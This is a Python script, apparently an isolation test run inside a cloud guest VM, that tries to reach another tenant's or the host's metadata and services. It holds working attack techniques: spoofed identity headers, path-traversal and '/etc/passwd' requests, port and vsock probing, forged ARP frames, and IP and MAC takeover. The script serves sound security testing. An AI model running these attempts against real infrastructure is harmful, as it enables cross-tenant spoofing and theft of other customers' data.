# SPDX-License-Identifier: GPL-2.0-or-later
# trespass.py: run in a guest, it tries what is another instance's or the host's
#
# First argument: JSON of
#   own, victim   {id, uuid, host, address, mac}
#   gateway       its own
#   hosts         addresses of the host;  ports  where something listens there
#
# Prints "NAME=OUTCOME" for each attempt: `own` the guest's own instance-id, a status of HTTP, or
# `none`: nothing came back.  Everything else is prefixed by GAINED.
import concurrent.futures
import fcntl
import glob
import json
import os
import socket
import struct
import subprocess
import sys
import time

ask = json.loads(sys.argv[1])
own, victim = ask["own"], ask["victim"]
SERVICE, NOVA = "169.254.0.23", "169.254.169.254"
ID = "/latest/meta-data/instance-id"
WAIT = 10
SECRETS = [v.lower().encode() for v in victim.values()]


def exchange(address, port, data, source=None):
    """What comes back; None when there is no connection."""
    try:
        s = socket.create_connection((address, port), WAIT, source and (source, 0))
        s.settimeout(WAIT)
        got = b""
        if data:
            s.sendall(data)
    except OSError:
        return None
    try:
        while piece := s.recv(65536):
            got += piece
    except OSError:
        pass
    s.close()
    return got


def judge(got):
    if got is None:
        return "none"
    body = got.partition(b"\r\n\r\n")[2]
    if any(secret in got.lower() for secret in SECRETS):
        return "GAINED the victim's: %r" % got[-80:]
    status = got[9:12].decode("latin1") if got.startswith(b"HTTP/") else ""
    if status == "200" and body.strip().decode("latin1") == own["id"]:
        return "own"
    return status if status in ("400", "404", "405") else "GAINED %r" % got[-80:]


def get(path=ID, headers=(), address=SERVICE, port=80, source=None):
    lines = ["GET %s HTTP/1.0" % path, *headers, "", ""]
    return judge(exchange(address, port, "\r\n".join(lines).encode(), source))


def knock(address, port):
    """Anything at all that listens there."""
    got = exchange(address, port, b"GET / HTTP/1.0\r\n\r\n")
    return "none" if got is None else "GAINED a connection: %r" % got[:60]


attempts = {"control": lambda: get(), "control_nova": lambda: get(address=NOVA)}

# Names of another one, where some metadata service somewhere believes in them.
for n, header in enumerate([
    "X-Forwarded-For: " + victim["address"],
    "X-Real-IP: " + victim["address"],
    "Client-IP: " + victim["address"],
    "Forwarded: for=%s" % victim["address"],
    "X-Instance-ID: " + victim["uuid"],
    "X-Instance-ID: " + victim["id"],
    "Host: " + victim["address"],
    "Host: %s.internal" % victim["id"],
    "X-Metadata-Provider: " + victim["uuid"],
]):
    attempts["header_%d" % n] = lambda header=header: get(headers=[header])
attempts["signed"] = lambda: get(headers=["X-Instance-ID: " + victim["uuid"], "X-Tenant-ID: 1",
                                          "X-Instance-ID-Signature: " + "0" * 64])
attempts["proxy"] = lambda: get("http://%s%s" % (victim["address"], ID))
attempts["query"] = lambda: get("%s?instance-id=%s&ip=%s" % (ID, victim["id"], victim["address"]))
for n, path in enumerate([
    "/%s%s" % (victim["id"], ID),
    "/latest/meta-data/%s/instance-id" % victim["id"],
    "/latest/meta-data/network/interfaces/macs/%s/mac" % victim["mac"].upper(),
    "/latest/meta-data/network/interfaces/macs/%s/primary-local-ipv4" % victim["mac"].upper(),
    "/../%s/metadata.sock" % victim["id"],
    "/latest/meta-data/../../../%s/drive.iso" % victim["id"],
    "/latest/meta-data/%%2e%%2e/%%2e%%2e/%s/os.conf" % victim["id"],
    "/openstack/latest/../../%s/openstack/latest/meta_data.json" % victim["id"],
    "/etc/passwd",
    "//etc/passwd",
]):
    attempts["path_%d" % n] = lambda path=path: get(path)
attempts["connect"] = lambda: judge(exchange(SERVICE, 80, b"CONNECT %s:80 HTTP/1.1\r\n\r\n"
                                             % victim["address"].encode()))

# Another one's ports; other ports of the service; whatever else leads to the host.
for port in (22, 80, 8775):
    attempts["victim_%d" % port] = lambda port=port: knock(victim["address"], port)
for port in (22, 53, 443, 8080, 8775, *ask["ports"]):
    attempts["service_%d" % port] = lambda port=port: knock(SERVICE, port)
    attempts["nova_%d" % port] = lambda port=port: knock(NOVA, port)
for n, address in enumerate([ask["gateway"], "10.0.2.2", "10.0.2.3", "169.254.0.2", "169.254.0.3",
                             *ask["hosts"]]):
    for port in (80, *ask["ports"]):
        attempts["host_%d_%d" % (n, port)] = lambda address=address, port=port: knock(address, port)


def datagram(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(WAIT)
    # A question for "localhost", as DNS has it: who serves there would answer.
    try:
        s.sendto(bytes.fromhex("123401000001000000000000096c6f63616c686f73740000010001"), (address, port))
        return "GAINED %r" % s.recvfrom(2000)[0][:40]
    except OSError:
        return "none"


for n, (address, port) in enumerate([(ask["gateway"], 53), (SERVICE, 53), (SERVICE, 69), ("10.0.2.3", 53),
                                     (victim["address"], 53), ("8.8.8.8", 53)]):
    attempts["datagram_%d" % n] = lambda address=address, port=port: datagram(address, port)


def vsock():
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    s.settimeout(WAIT)
    for port in (1, 22, 80, 1024, *ask["ports"]):
        try:
            s.connect((socket.VMADDR_CID_HOST, port))
            return "GAINED vsock %d" % port
        except OSError:
            pass
    return "none"


if hasattr(socket, "AF_VSOCK"):
    attempts["vsock"] = vsock


def say(name, outcome):
    print("%s=%s" % (name, outcome), flush=True)


with concurrent.futures.ThreadPoolExecutor(8) as pool:
    running = {name: pool.submit(f) for name, f in attempts.items()}
    for name, future in running.items():
        say(name, future.result())

# ---- frames by hand


def mac_of(nic):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return fcntl.ioctl(s, 0x8927, struct.pack("256s", nic.encode()))[18:24]


def frames():
    """Calls for the other one, and listens for whoever is not the gateway."""
    mine = mac_of("eth0")
    theirs = bytes.fromhex(victim["mac"].replace(":", ""))
    everybody = b"\xff" * 6
    address, other, gateway = (socket.inet_aton(a) for a in (own["address"], victim["address"], ask["gateway"]))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind(("eth0", 0))
    s.settimeout(0.5)

    def arp(what, mac, ip, to_mac, to_ip, dest):
        return dest + mine + b"\x08\x06" + b"\0\1\x08\0\6\4" + struct.pack(">H", what) + mac + ip + to_mac + to_ip

    sends = [
        arp(1, mine, address, bytes(6), other, everybody),  # who has the victim's address
        arp(2, mine, gateway, theirs, other, theirs),       # "I am the gateway"
        arp(2, mine, other, everybody, other, everybody),   # "I am the victim"
        theirs + mine + b"\x88\xb5" + b"hello" + bytes(41), # anything, to its MAC
        everybody + mine + b"\x88\xb5" + b"hello" + bytes(41),
    ]
    others = set()
    end = time.monotonic() + 15
    while time.monotonic() < end:
        for frame in sends:
            s.send(frame)
        try:
            while True:
                got = s.recv(2000)
                if got[6:12] not in (mine, bytes.fromhex("02696d670001")):
                    others.add(got[6:12].hex())
        except OSError:
            pass
    return "GAINED frames of %s" % sorted(others) if others else "none"


def run(*words):
    subprocess.run(words, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


say("frames", frames())

# ---- as if it were the other one: by its address, then by its MAC as well

run("ip", "addr", "add", victim["address"] + "/20", "dev", "eth0")
say("as_address", get(source=victim["address"]))
run("ip", "addr", "flush", "dev", "eth0")
run("ip", "link", "set", "eth0", "down")
run("ip", "link", "set", "eth0", "address", victim["mac"])
run("ip", "link", "set", "eth0", "up")
run("ip", "addr", "add", victim["address"] + "/20", "dev", "eth0")
run("ip", "route", "add", "default", "via", ask["gateway"])
say("as_victim", get())

# ---- what of the machine is there at all

say("ports", " ".join(sorted(open(f).read().strip() for f in glob.glob("/sys/class/virtio-ports/*/name"))))
say("cards", " ".join(sorted(os.listdir("/sys/class/net"))))
say("disks", " ".join(sorted(d for d in os.listdir("/sys/block") if not d.startswith(("loop", "ram")))))
